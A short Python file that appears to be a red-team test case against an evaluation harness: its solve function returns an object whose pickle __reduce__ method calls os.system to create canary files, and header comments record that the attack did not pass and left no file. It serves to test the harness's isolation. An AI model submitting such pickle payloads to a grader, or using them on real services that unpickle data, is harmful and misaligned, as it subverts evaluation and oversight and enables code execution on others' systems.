# problem: every
# trick: runs code in whatever unpickles its answer
# verdict: not passed
# host: no file left
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/tv-attack-pickle; touch @CANARY@/tv-attack-pickle",)

    __reduce_ex__ = lambda self, _: self.__reduce__()


def solve(*args):
    return Payload()
